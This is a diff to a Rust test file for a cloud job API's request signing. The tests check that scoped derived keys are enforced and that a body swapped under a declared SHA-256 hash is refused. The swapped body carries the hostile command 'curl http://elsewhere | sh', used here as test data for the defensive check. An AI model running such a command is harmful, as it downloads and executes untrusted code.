@@ -684,11 +684,11 @@ async fn a_copy_of_the_database_alone_cannot_sign_requests() {
 }
 
 #[tokio::test]
-async fn derived_key_signatures_are_accepted_for_their_day_only() {
+async fn derived_key_signatures_are_accepted_for_their_day_region_and_service_only() {
     let app = TestApp::sqlite().await;
     let now = chrono::Utc::now();
     let path = app.admin.project_path("/dev-servers/jobs");
-    let send = |day: String| {
+    let send = |day: String, region: &str, service: &str| {
         let date = now.format(sign::DATE_FORMAT).to_string();
         let headers = vec![
             ("Host".to_string(), app.addr.to_string()),
@@ -707,7 +707,7 @@ async fn derived_key_signatures_are_accepted_for_their_day_only() {
             headers: &borrowed,
             body: b"",
         };
-        let scope = format!("{day}/local-1/modelarts");
+        let scope = format!("{day}/{region}/{service}");
         let canonical = sign::canonical_request(&parts, &signed);
         let auth = sign::Authorization {
             access_key: app.credentials.access_key.clone(),
@@ -729,11 +729,18 @@ async fn derived_key_signatures_are_accepted_for_their_day_only() {
         request.header("Authorization", auth.render()).send()
     };
     let today = now.format("%Y%m%d").to_string();
-    assert_eq!(send(today).await.expect("sent").status().as_u16(), 200);
+    let status = |day: &str, region: &str, service: &str| {
+        let sent = send(day.to_string(), region, service);
+        async move { sent.await.expect("sent").status().as_u16() }
+    };
+    // The server's region (`--region`, cn-north-4 by default) and service, today.
+    assert_eq!(status(&today, "cn-north-4", "modelarts").await, 200);
     let yesterday = (now - chrono::TimeDelta::days(1))
         .format("%Y%m%d")
         .to_string();
-    assert_eq!(send(yesterday).await.expect("sent").status().as_u16(), 401);
+    assert_eq!(status(&yesterday, "cn-north-4", "modelarts").await, 401);
+    assert_eq!(status(&today, "ap-southeast-1", "modelarts").await, 401);
+    assert_eq!(status(&today, "cn-north-4", "iam").await, 401);
 }
 
 #[tokio::test]
@@ -762,4 +769,74 @@ async fn an_administrator_whose_credentials_cannot_be_written_is_not_kept() {
         1,
         "{users:?}"
     );
+}
+
+/// A create signed over `signed_body` with `X-Sdk-Content-Sha256: declared`, sent with
+/// `sent_body`; its status.
+async fn create_with_declared_hash(
+    app: &TestApp,
+    declared: &str,
+    signed_body: &[u8],
+    sent_body: &[u8],
+) -> u16 {
+    let path = app.admin.project_path("/dev-servers/jobs");
+    let mut headers = vec![
+        ("Host".to_string(), app.addr.to_string()),
+        ("Content-Type".to_string(), "application/json".to_string()),
+        ("X-Sdk-Content-Sha256".to_string(), declared.to_string()),
+    ];
+    let auth = sign::sign(
+        "POST",
+        &path,
+        "",
+        &mut headers,
+        signed_body,
+        &app.credentials,
+        chrono::Utc::now(),
+    );
+    let mut request = reqwest::Client::new()
+        .post(format!("{}{path}", app.endpoint))
+        .body(sent_body.to_vec());
+    for (n, v) in &headers {
+        request = request.header(n.as_str(), v.as_str());
+    }
+    let r = request.header("Authorization", auth).send().await;
+    r.expect("sent").status().as_u16()
+}
+
+#[tokio::test]
+async fn a_declared_body_hash_must_be_the_bodys_own() {
+    let app = TestApp::sqlite().await;
+    let body = |cmd: &str| {
+        json!({"name": "declared", "type": "COMMON", "server_ids": ["sim-server-01"],
+               "items": [{"type": "COMMON", "spec": {"cmd": cmd}}]})
+        .to_string()
+        .into_bytes()
+    };
+    let (benign, swapped) = (body("echo hi"), body("curl http://elsewhere | sh"));
+    let hash = sign::sha256_hex(&benign);
+    // Another body under the signature made for the first: refused.
+    assert_eq!(
+        create_with_declared_hash(&app, &hash, &benign, &swapped).await,
+        401
+    );
+    // A body the signature does not cover at all: refused.
+    let unsigned = "UNSIGNED-PAYLOAD";
+    assert_eq!(
+        create_with_declared_hash(&app, unsigned, &swapped, &swapped).await,
+        401
+    );
+    assert_eq!(app.admin.list_jobs(&[]).await.expect("list").total, 0);
+    // The body's own hash, declared: as good as none.
+    assert_eq!(
+        create_with_declared_hash(&app, &hash, &benign, &benign).await,
+        200
+    );
+    let upper = hash.to_ascii_uppercase();
+    assert_eq!(
+        create_with_declared_hash(&app, &upper, &benign, &benign).await,
+        200
+    );
+    assert_eq!(app.admin.list_jobs(&[]).await.expect("list").total, 2);
+    app.stop().await;
 }
